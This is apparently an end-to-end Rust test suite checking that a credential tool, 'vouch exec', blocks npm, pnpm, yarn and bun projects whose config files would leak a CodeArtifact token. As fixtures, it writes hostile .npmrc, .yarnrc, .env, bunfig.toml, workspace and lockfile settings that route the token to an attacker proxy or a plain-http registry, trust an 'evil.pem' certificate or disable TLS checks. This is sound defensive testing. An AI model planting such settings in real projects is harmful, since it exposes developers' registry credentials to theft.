//! What else a project's own files make npm, pnpm, yarn 1 and bun do with the token than `untrusted_node` tries, and that `vouch
//! exec` does not start them then. `docs/untrusted-projects.md` tells it.

use std::thread;
use std::time::Duration;

use vouch_e2e::hostile::HostileHost;
use vouch_e2e::node::{self, Client};
use vouch_e2e::{CommandOutput, Run, Sandbox, in_sandbox};

const HOST: &str = "my-domain-123456789012.d.codeartifact.us-east-1.amazonaws.com";
const NPM: [&str; 4] = ["npm-8", "npm-10", "npm-11", "npm-12"];

/// A project, and the clients that give the token away in it.
struct Project {
    clients: Vec<&'static str>,
    files: Vec<(&'static str, String)>,
    /// Whether what to install is written there.
    has_lock: bool,
    /// Whether the hostile host stands on the way by itself, as the proxy of the environment.
    is_on_the_way: bool,
}

fn begin(sandbox: &Sandbox) -> HostileHost {
    sandbox.enroll();
    sandbox.log_in();
    HostileHost::start()
}

fn in_app(run: Run, sandbox: &Sandbox, hostile: &HostileHost, project: &Project) -> Run {
    let mut run = run.within(sandbox.file("app"));
    for (name, value) in [
        ("npm_config_fetch_retries", "0"),
        ("npm_config_fetch_timeout", "5000"),
        ("npm_config_audit", "false"),
        ("npm_config_update_notifier", "false"),
        ("pnpm_config_update_notifier", "false"),
    ] {
        run = run.env(name, value);
    }
    if project.is_on_the_way {
        // What is encrypted goes straight to the registry.
        for name in ["http_proxy", "HTTP_PROXY"] {
            run = run.env(name, hostile.url());
        }
    }
    run
}

/// Runs the client in the project, as it is and by way of `vouch exec`.
fn gives_away(sandbox: &Sandbox, hostile: &HostileHost, project: &Project) {
    for name in &project.clients {
        let client = Client(name);
        node::fresh_project(sandbox, client, "app");
        for (file, text) in &project.files {
            sandbox.write(&format!("app/{file}"), text);
        }
        let words = if project.has_lock { vec!["install"] } else { client.adding(&["left"]) };
        // The project's authority is to count, not the sandbox's.
        let run = client.prepared(sandbox, "--unset=npm_config_cafile").arg(client.program()).args(&words);
        let done = in_app(run, sandbox, hostile, project).done();
        let arrived = all_that_arrives(hostile);
        assert!(
            arrived.iter().any(|head| head.contains("eyJ")),
            "{name} sent nothing: {:?}\n{arrived:?}\n{done}",
            project.files
        );
        let exec = client.prepared(sandbox, "vouch").args(["exec", "--type", "codeartifact", "--"]);
        let exec = in_app(exec.arg(client.program()).args(&words), sandbox, hostile, project).done();
        refused(&exec, &sandbox.file("app").join(project.files[0].0).display().to_string());
        assert_eq!(hostile.arrived(), Vec::<String>::new(), "{exec}");
    }
}

/// Also what a client asks for behind one's back, after its end.
fn all_that_arrives(hostile: &HostileHost) -> Vec<String> {
    let mut arrived = Vec::new();
    loop {
        thread::sleep(Duration::from_millis(300));
        let more = hostile.arrived();
        if more.is_empty() {
            return arrived;
        }
        arrived.extend(more);
    }
}

fn refused(done: &CommandOutput, file: &str) {
    assert_eq!(done.code, 125, "{done}");
    assert!(done.stderr.contains("was not started: this project would give the token away"), "{done}");
    assert!(done.stderr.contains(&format!("`{file}` line ")), "{file}: {done}");
    assert!(done.stderr.contains("--trust-project="), "{done}");
}

fn set_up(sandbox: &Sandbox, clients: &[&'static str]) {
    for name in clients {
        let _ = Client(name).set_up(sandbox, &[]).ok();
    }
}

#[test]
fn a_registry_over_plain_http() {
    in_sandbox(&[], |sandbox| {
        let hostile = begin(sandbox);
        set_up(sandbox, &["npm-11", "yarn-1", "pnpm-12"]);
        let plain = |clients: &[&'static str], file: &'static str, text: String| {
            let project = Project {
                clients: clients.to_vec(),
                files: vec![(file, text)],
                has_lock: false,
                is_on_the_way: true,
            };
            gives_away(sandbox, &hostile, &project);
        };
        let url = format!("http://{HOST}/npm/my-npm-repo/");
        plain(&["bun"], ".env", format!("NPM_CONFIG_REGISTRY={url}\n"));
        plain(&["bun"], "bunfig.toml", format!("[install]\nregistry = \"{url}\"\n"));
        plain(&["pnpm-11", "pnpm-12"], "pnpm-workspace.yaml", format!("registries:\n  default: {url}\n"));
        // What an `.npmrc` says goes before a `.yarnrc`.
        let _ = sandbox.vouch(&["undo", "--all"]).ok();
        let _ = Client("yarn-1").set_up(sandbox, &["--scope", "@acme"]).ok();
        plain(&["yarn-1"], ".yarnrc", format!("registry \"{url}\"\n"));
    });
}

#[test]
fn a_proxy_that_the_client_is_told_to_believe() {
    in_sandbox(&[], |sandbox| {
        let hostile = begin(sandbox);
        set_up(sandbox, &["npm-11", "yarn-1", "pnpm-12"]);
        let proxy = hostile.url();
        let read = |clients: &[&'static str], file: &'static str, text: String| {
            let files = vec![(file, text), ("evil.pem", hostile.certificate().to_owned())];
            gives_away(
                sandbox,
                &hostile,
                &Project { clients: clients.to_vec(), files, has_lock: false, is_on_the_way: false },
            );
        };
        let dotenv = format!("NODE_TLS_REJECT_UNAUTHORIZED=0\nHTTPS_PROXY={proxy}\n");
        read(&["bun"], ".env", dotenv);
        read(&["yarn-1"], ".yarnrc", format!("cafile \"./evil.pem\"\nhttps-proxy \"{proxy}\"\n"));
        let workspace = format!("packages:\n  - '.'\nstrictSsl: false\nhttpsProxy: {proxy}\n");
        read(&["pnpm-11", "pnpm-12"], "pnpm-workspace.yaml", workspace);
    });
}

/// The certificate is checked; only npm 10 has said everything before that.
#[test]
fn a_proxy_alone_gets_a_token_from_npm_10_only() {
    in_sandbox(&[], |sandbox| {
        let hostile = begin(sandbox);
        set_up(sandbox, &["npm-11", "yarn-1", "pnpm-12"]);
        let files = vec![(".npmrc", format!("https-proxy={}\n", hostile.url()))];
        let project = Project { clients: Vec::new(), files, has_lock: false, is_on_the_way: false };
        for name in [&NPM[..], &["pnpm-11", "pnpm-12", "yarn-1"]].concat() {
            let client = Client(name);
            node::fresh_project(sandbox, client, "app");
            sandbox.write("app/.npmrc", &project.files[0].1);
            let words = client.adding(&["left"]);
            let exec = client.prepared(sandbox, "vouch").args(["exec", "--type", "codeartifact", "--"]);
            let exec = exec.arg(client.program()).args(&words);
            let done = in_app(exec, sandbox, &hostile, &project).done();
            assert_ne!(done.code, 125, "{done}");
            assert!(done.stderr.contains("`https-proxy` names a proxy"), "{done}");
            let arrived = all_that_arrives(&hostile);
            assert!(arrived.iter().any(|head| head.starts_with("CONNECT ")), "{done}");
            let is_lost = arrived.iter().any(|head| head.contains("eyJ"));
            assert_eq!(is_lost, name == "npm-10", "{name}: {arrived:?}");
        }
    });
}

#[test]
fn a_variable_for_another_host() {
    in_sandbox(&[], |sandbox| {
        let hostile = begin(sandbox);
        set_up(sandbox, &["npm-11", "yarn-1"]);
        let token = sandbox.vouch(&["credential", "codeartifact"]).ok().stdout;
        let place = format!("127.0.0.1:{}", hostile.port());
        let npmrc = format!(
            "registry=http://{place}/\n//{place}/:_authToken=${{CODEARTIFACT_AUTH_TOKEN}}\nalways-auth=true\n"
        );
        for client in [&NPM[..], &["yarn-1", "bun"]].concat().into_iter().map(Client) {
            node::fresh_project(sandbox, client, "app");
            sandbox.write("app/.npmrc", &npmrc);
            let project =
                Project { clients: Vec::new(), files: Vec::new(), has_lock: false, is_on_the_way: false };
            let words = client.adding(&["left"]);
            let run = in_app(client.run(sandbox, &words), sandbox, &hostile, &project);
            let done = run.env("CODEARTIFACT_AUTH_TOKEN", token.trim()).done();
            assert!(hostile.got_a_token(), "{done}");
            let exec = client.prepared(sandbox, "vouch").args(["exec", "--type", "codeartifact", "--"]);
            let exec = exec.arg(client.program()).args(&words).within(sandbox.file("app")).done();
            refused(&exec, &sandbox.file("app/.npmrc").display().to_string());
            assert_eq!(hostile.arrived(), Vec::<String>::new(), "{exec}");
        }
    });
}

#[test]
fn a_package_over_plain_http() {
    in_sandbox(&[], |sandbox| {
        let hostile = begin(sandbox);
        set_up(sandbox, &["npm-11", "yarn-1", "pnpm-12"]);
        node::publish_three(sandbox, Client("npm-11"));
        let url = format!("http://{HOST}/npm/my-npm-repo/left/-/left-1.0.0.tgz");
        let package = "{\"name\": \"app\", \"version\": \"1.0.0\", \"dependencies\": {\"left\": \"1.0.0\"}}";
        let lock = format!(
            "{{\"name\": \"app\", \"version\": \"1.0.0\", \"lockfileVersion\": 3, \"requires\": true, \"packages\": {{\n\
             \"\": {{\"name\": \"app\", \"version\": \"1.0.0\", \"dependencies\": {{\"left\": \"1.0.0\"}}}},\n\
             \"node_modules/left\": {{\"version\": \"1.0.0\",\n\"resolved\": \"{url}\"}}}}}}\n"
        );
        let given = |clients: &[&'static str], files: Vec<(&'static str, String)>| {
            gives_away(
                sandbox,
                &hostile,
                &Project { clients: clients.to_vec(), files, has_lock: true, is_on_the_way: true },
            );
        };
        given(
            &["npm-8", "npm-10", "npm-11"],
            vec![("package-lock.json", lock), ("package.json", package.into())],
        );
        let lock =
            format!("# yarn lockfile v1\n\n\nleft@1.0.0:\n  version \"1.0.0\"\n  resolved \"{url}\"\n");
        given(&["yarn-1"], vec![("yarn.lock", lock), ("package.json", package.into())]);
    });
}
